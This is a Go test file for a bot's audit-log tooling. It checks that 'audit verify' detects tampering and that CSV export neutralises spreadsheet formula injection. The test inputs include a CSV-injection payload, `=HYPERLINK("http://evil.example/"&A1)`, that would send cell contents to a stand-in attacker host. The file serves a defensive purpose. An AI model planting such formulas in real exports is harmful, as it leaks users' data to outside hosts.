package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"github.com/steward-bot/steward/state"
)

// TestAuditVerifyAndExport runs `steward audit verify` on an intact and on a tampered
// log, and `steward audit export` in both formats.
func TestAuditVerifyAndExport(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "password", "pw\n")
	cfg := writeFile(t, dir, "steward.yaml", validConfig)
	if err := os.Mkdir(filepath.Join(dir, "data"), 0o700); err != nil {
		t.Fatal(err)
	}
	dbPath := filepath.Join(dir, "data", "steward.db")
	db, err := state.Open(t.Context(), dbPath, zerolog.Nop())
	if err != nil {
		t.Fatal(err)
	}
	for _, action := range []string{"command.ping", "command.status", "invite"} {
		if _, err = db.Audit.Append(t.Context(), &state.AuditEntry{Actor: "@alice:example.org", Action: action, Arguments: `say "hi", then go`, Outcome: "ok"}); err != nil {
			t.Fatal(err)
		}
	}
	// What a member typed, meant for a spreadsheet that opens the export.
	formulas := []string{`=HYPERLINK("http://evil.example/"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"}
	for _, f := range formulas {
		if _, err = db.Audit.Append(t.Context(), &state.AuditEntry{Actor: "@mallory:example.org", Action: "command.unknown", Arguments: f, Detail: f, Outcome: "refused"}); err != nil {
			t.Fatal(err)
		}
	}

	code, out, errOut := runCLI("audit", "verify", "--config", cfg)
	if code != 0 || !strings.Contains(out, fmt.Sprintf("intact: %d entries", 3+len(formulas))) {
		t.Fatalf("verify on an intact log: exit %d, %q %q", code, out, errOut)
	}

	code, out, _ = runCLI("audit", "export", "--config", cfg)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if code != 0 || len(lines) != 3+len(formulas) {
		t.Fatalf("export jsonl: exit %d, %d lines", code, len(lines))
	}
	var first state.AuditEntry
	if err = json.Unmarshal([]byte(lines[0]), &first); err != nil || first.Action != "command.ping" || first.Hash == "" {
		t.Errorf("first jsonl entry = %+v (%v)", first, err)
	}

	csvPath := filepath.Join(dir, "log.csv")
	if code, _, errOut = runCLI("audit", "export", "--config", cfg, "--format", "csv", "--output", csvPath); code != 0 {
		t.Fatalf("export csv: exit %d: %s", code, errOut)
	}
	f, err := os.Open(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(f).ReadAll()
	f.Close()
	if err != nil || len(records) != 4+len(formulas) || records[0][0] != "id" || records[2][6] != "command.status" || records[1][7] != `say "hi", then go` {
		t.Fatalf("csv export = %q (%v)", records, err)
	}
	for i, f := range formulas {
		row := records[4+i]
		if row[7] != "'"+f || row[9] != "'"+f {
			t.Errorf("csv cells of %q = %q and %q, want it kept from being a formula", f, row[7], row[9])
		}
	}

	if _, err = db.Raw.RawDB.Exec("UPDATE audit SET outcome='refused' WHERE id=2"); err != nil {
		t.Fatal(err)
	}
	db.Close()
	code, _, errOut = runCLI("audit", "verify", "--config", cfg)
	if code != 1 || !strings.Contains(errOut, "BROKEN at entry 2") {
		t.Errorf("verify on a tampered log: exit %d, %q", code, errOut)
	}
	if code, _, _ = runCLI("audit", "export", "--config", cfg, "--format", "xml"); code != 2 {
		t.Errorf("export with an unknown format: exit %d, want 2", code)
	}
}
